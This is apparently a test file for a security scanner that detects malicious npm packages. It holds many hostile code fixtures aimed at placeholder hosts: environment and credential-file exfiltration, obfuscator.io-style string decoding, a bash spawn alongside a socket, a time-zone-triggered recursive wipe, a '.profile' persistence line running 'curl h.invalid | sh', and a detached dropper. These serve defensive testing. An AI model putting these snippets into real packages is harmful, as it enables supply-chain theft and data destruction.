import { describe, expect, it } from 'vitest'
import { analyseJavaScript } from '../../src/npm/index.js'
import { judge, ofRule, pkgJson } from './helpers.js'

const b = (code: string) => analyseJavaScript('x.js', code).behaviour
const atLeastHigh = (s: string | undefined): boolean => s === 'high' || s === 'critical'

describe('partial evaluation: rules see resolved names', () => {
  it('module names built by join, reverse, fromCharCode, char arithmetic and a decoder function', () => {
    for (const spec of ["['h','t','t','p'].join('')", "'ptth'.split('').reverse().join('')", 'String.fromCharCode(104, 116, 116, 112)', "Buffer.from('aHR0cA==', 'base64').toString()", "dec('68747470', 'hex')"]) {
      const f = analyseJavaScript('x.js', `const dec = (s, e) => Buffer.from(s, e).toString('utf8'); const m = require(${spec}); m.get('http://h.invalid/' + process.env.GH_TOKEN)`)
      expect(f.network.map((n) => n.api), spec).toContain('http.get')
      expect(f.behaviour.flows[0]?.source, spec).toBe('process.env.GH_TOKEN')
    }
  })

  it('a XOR loop decoder', () => {
    const key = 7
    const enc = [...'dns'].map((c) => c.charCodeAt(0) ^ key)
    const f = analyseJavaScript('x.js', `function x(a, k) { let o = ''; for (let i = 0; i < a.length; i++) o += String.fromCharCode(a[i] ^ k); return o }
const d = require(x([${enc.join(',')}], ${key})); d.resolveTxt(require('os').hostname() + '.h.invalid', () => {})`)
    expect(f.network.map((n) => n.api)).toContain('dns.resolveTxt')
    expect(f.behaviour.flows[0]?.source).toBe('host identity (os.hostname)')
  })

  it('an obfuscator.io string array with rotation and hex indexes', () => {
    // the array is stored rotated right by 2; the loop turns it back at run time
    const code = `var _0xa=['env','https','request','write','end','0.invalid'];
(function(_0xb,_0xc){var _0xd=function(_0xe){while(--_0xe){_0xb['push'](_0xb['shift']());}};_0xd(++_0xc);}(_0xa,0x2));
var _0xf=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];return _0x3;};
var _0x4=require(_0xf('0x5'));var _0x5=_0x4[_0xf('0x0')]({hostname:_0xf('0x3')});_0x5[_0xf('0x1')](JSON.stringify(process[_0xf('0x4')]));_0x5[_0xf('0x2')]();`
    // rotated left twice: ['request','write','end','0.invalid','env','https']
    const f = analyseJavaScript('x.js', code)
    expect(f.network[0]).toMatchObject({ api: 'https.request', target: '0.invalid' })
    expect(f.behaviour.flows[0]).toMatchObject({ source: 'the whole environment', sink: '_0x5.write()' })
  })

  it('a require hidden behind module[hex] and global aliases', () => {
    const f = analyseJavaScript('x.js', `global['q'] = require; const cp = global['q']('\\x63hild_process'); const r = module['\\x72equire']; const net = r('net'); const s = net.connect(9, '127.0.0.1'); cp.spawn('/bin/bash', [])`)
    expect(f.exec[0]).toMatchObject({ api: 'child_process.spawn', interactiveShell: true })
    expect(f.network[0]?.api).toBe('net.connect')
  })

  it('stays within its step budget on a self-referencing decoder', () => {
    const f = analyseJavaScript('x.js', `function d(s) { return d(s + s) } const m = require(d('a')); eval(m)`)
    expect(f.dynamicCode.find((d) => d.api === 'eval')).toMatchObject({ argument: 'dynamic' })
    expect(f.dynamicCode.find((d) => d.api === 'require')).toMatchObject({ argument: 'dynamic' })
  })
})

describe('sources reaching sinks', () => {
  it('flows through variables, serialisers and streams; a digest does not carry its input', () => {
    expect(b(`const fs = require('fs'); const https = require('https'); const t = fs.readFileSync(require('os').homedir() + '/.git-credentials', 'utf8'); const r = https.request({ host: 'h.invalid' }); r.end(JSON.stringify({ t }))`).flows[0]?.source).toMatch(/credential file/)
    expect(b(`const crypto = require('crypto'); const sig = crypto.createHmac('sha256', process.env.API_SECRET).update('x').digest('hex'); fetch('https://api.example.com', { headers: { sig } })`).flows).toEqual([])
  })

  it('knows code that runs on import from code that runs when called', () => {
    expect(b(`const t = process.env.NPM_TOKEN; fetch('https://h.invalid/?' + t)`).flows[0]?.onLoad).toBe(true)
    expect(b(`exports.send = function () { fetch('https://h.invalid/?' + process.env.NPM_TOKEN) }`).flows[0]?.onLoad).toBe(false)
    expect(b(`setTimeout(() => fetch('https://h.invalid/?' + process.env.NPM_TOKEN), 10)`).flows[0]?.onLoad).toBe(true)
  })

  it('code run from network data: eval, Function and vm inside response handlers', () => {
    expect(b(`require('https').get('https://h.invalid', (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => new Function(s)()) })`).remoteCode).toHaveLength(1)
    expect(b(`fetch('https://h.invalid').then((r) => r.text()).then((t) => require('vm').runInThisContext(t))`).remoteCode).toHaveLength(1)
    expect(b(`fetch('https://h.invalid').then((r) => r.json()); const f = new Function('a', 'return a'); eval(process.argv[2])`).remoteCode).toEqual([])
  })
})

describe('values gathered from loops, members and pushes', () => {
  it('a loop variable holds the elements it iterates; object members and pushed items belong to their container', () => {
    const f = analyseJavaScript('x.js', `const fs = require('fs'); const os = require('os'); const targets = [os.homedir() + '/.config/app/app.asar']; for (const t of targets) fs.writeFileSync(t, 'x')`)
    expect(f.writes[0]?.target).toMatch(/code of another program/)
    const g = b(`const fs = require('fs'); const out = {}; out.k = fs.readFileSync(require('os').homedir() + '/.netrc', 'utf8'); const q = require('https').request({ host: 'h.invalid' }); q.end(JSON.stringify(out))`)
    expect(g.flows[0]?.source).toMatch(/credential file/)
    const h = b(`const parts = []; parts.push(process.env.CI_JOB_TOKEN); require('dns').lookup(parts.join('.') + '.h.invalid', () => {})`)
    expect(h.flows[0]?.source).toBe('process.env.CI_JOB_TOKEN')
  })

  it('code taken from HTTP request headers in a middleware is remote code', () => {
    expect(b(`module.exports = (req, res, next) => { const parts = []; for (const k in req.headers) parts.push(req.headers[k]); if (parts.length > 3) eval(parts.join('')); next() }`).remoteCode).toHaveLength(1)
    expect(b(`module.exports = (req, res) => res.end(JSON.stringify(req.headers)); const f = (s) => eval(s)`).remoteCode).toEqual([])
  })

  it('scanning files for token shapes is a credential source; splitting a CA bundle is not', () => {
    const read = `const fs = require('fs'); const text = fs.readFileSync(process.argv[2], 'utf8'); require('https').get('https://h.invalid')`
    expect(analyseJavaScript('x.js', `${read}; const found = text.match(/ghp_[A-Za-z0-9]{36}/g)`).credentials.map((c) => c.what)).toEqual(['secrets found by scanning files (token patterns)'])
    expect(analyseJavaScript('x.js', `${read}; const cas = text.split(/\\n(?=-----BEGIN CERTIFICATE-----)/g)`).credentials).toEqual([])
  })

  it('a bare side-effect import in a file that is only token-scanned is still followed', () => {
    expect(analyseJavaScript('i.js', `import './lib/side.js'\nexport default 1\n`).requires.map((r) => r.specifier)).toEqual(['./lib/side.js'])
  })
})

describe('load-time behaviour, judged by what co-occurs', () => {
  it('a wallet hook is high; a fetch wrapper alone is not', () => {
    const clipper = judge({ files: { 'package.json': JSON.stringify({ name: 'c', main: 'i.js' }), 'i.js': `Object.defineProperty(window, 'ethereum', { get () { return proxy } }); const proxy = {}` } })
    expect(atLeastHigh(ofRule(clipper, 'npm/global-hook')[0]?.severity)).toBe(true)
    const wrapper = judge({ files: { 'package.json': JSON.stringify({ name: 'w', main: 'i.js' }), 'i.js': `const f = window.fetch; window.fetch = function () { return f.apply(this, arguments) }` } })
    expect(ofRule(wrapper, 'npm/global-hook').map((x) => x.severity)).toEqual(['info'])
  })

  it('a recursive wipe behind a locale check at load, and a plain rm -r helper', () => {
    const bomb = judge({ files: { 'package.json': JSON.stringify({ name: 'b', main: 'i.js' }), 'i.js': `const fs = require('fs'); if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tehran') fs.rmSync('/nonexistent-stagelight/home', { recursive: true, force: true })` } })
    expect(ofRule(bomb, 'npm/destructive-payload')[0]).toMatchObject({ severity: 'critical' })
    const helper = judge({ files: { 'package.json': JSON.stringify({ name: 'h', main: 'i.js' }), 'i.js': `const fs = require('fs'); module.exports = (dir) => fs.rmSync(dir, { recursive: true, force: true })` } })
    expect(ofRule(helper, 'npm/destructive-payload')).toEqual([])
  })

  it('a loop that never ends at the top level of an entry point', () => {
    const hang = judge({ files: { 'package.json': JSON.stringify({ name: 'h', main: 'i.js' }), 'i.js': `module.exports = {}\nwhile (true) { console.log('x') }` } })
    expect(ofRule(hang, 'npm/destructive-payload')[0]?.severity).toBe('high')
    const server = judge({ files: { 'package.json': JSON.stringify({ name: 's', main: 'i.js' }), 'i.js': `for (;;) { const line = next(); if (!line) break }` } })
    expect(ofRule(server, 'npm/destructive-payload')).toEqual([])
  })

  it('persistence: a shell start-up file written at install time', () => {
    const f = judge({ files: { 'package.json': pkgJson({ postinstall: 'node p.js' }), 'p.js': `const fs = require('fs'); const os = require('os'); fs.appendFileSync(os.homedir() + '/.profile', 'curl h.invalid | sh')` } })
    expect(ofRule(f, 'npm/persistence-or-tampering')[0]?.severity).toBe('high')
  })

  it('a dependency fetched over plain http is high; a registry range is nothing', () => {
    const f = judge({ files: { 'package.json': JSON.stringify({ name: 'd', dependencies: { a: 'http://10.0.0.1/a.tgz', b: '^1.0.0', c: 'github:o/c' } }) } })
    expect(ofRule(f, 'npm/remote-dependency').map((x) => x.severity)).toEqual(['high'])
  })
})

describe('install time: every file reached', () => {
  it('follows spawn(process.execPath, [file]) and new Worker(file)', () => {
    const f = judge({
      files: {
        'package.json': pkgJson({ install: 'node a.js' }),
        'a.js': `const { Worker } = require('worker_threads'); const path = require('path'); new Worker(path.join(__dirname, 'b.js'))`,
        'b.js': `require('child_process').fork(require('path').join(__dirname, 'c.js'))`,
        'c.js': `fetch('https://h.invalid', { method: 'POST', body: JSON.stringify(process.env) })`,
      },
    })
    expect(ofRule(f, 'npm/data-exfiltration')[0]).toMatchObject({ severity: 'critical', path: 'c.js' })
  })

  it('a binary fetched into the package and checked is an installer; one dropped in tmp and started detached is a dropper', () => {
    const download = (check: string, where: string, run: string): string => `const https = require('https'); const fs = require('fs'); const os = require('os'); const crypto = require('crypto'); const cp = require('child_process')
https.get('https://registry.npmjs.org/x/-/x-1.0.0.tgz', (r) => { const c = []; r.on('data', (d) => c.push(d)); r.on('end', () => { const buf = Buffer.concat(c); ${check} const bin = ${where}; fs.writeFileSync(bin, buf); fs.chmodSync(bin, 0o755); ${run} }) })`
    const judgeInstall = (code: string) => judge({ files: { 'package.json': pkgJson({ postinstall: 'node i.js' }), 'i.js': code } })
    const checked = judgeInstall(download(`if (crypto.createHash('sha256').update(buf).digest('hex') !== 'ab') throw new Error('bad');`, "__dirname + '/bin/x'", "cp.execFileSync(bin, ['--version'])"))
    expect(checked.filter((x) => atLeastHigh(x.severity))).toEqual([])
    const inPackage = judgeInstall(download('', "__dirname + '/bin/x'", "cp.execFileSync(bin, ['--version'])"))
    expect(inPackage.filter((x) => atLeastHigh(x.severity))).toEqual([])
    const dropped = judgeInstall(download('', "require('path').join(os.tmpdir(), 'x')", "cp.spawn(bin, [], { detached: true }).unref()"))
    expect(ofRule(dropped, 'npm/remote-code-execution')[0]?.severity).toBe('critical')
    // fetched to a temporary directory and only asked for its version: how driver installers validate
    const validated = judgeInstall(download('', "require('path').join(os.tmpdir(), 'x')", "cp.spawn(bin, ['--version'])"))
    expect(ofRule(validated, 'npm/remote-code-execution')).toEqual([])
    const run = judgeInstall(download('', "require('path').join(os.tmpdir(), 'x')", "cp.spawn(bin, ['--serve'])"))
    expect(ofRule(run, 'npm/remote-code-execution')[0]?.severity).toBe('critical')
  })
})
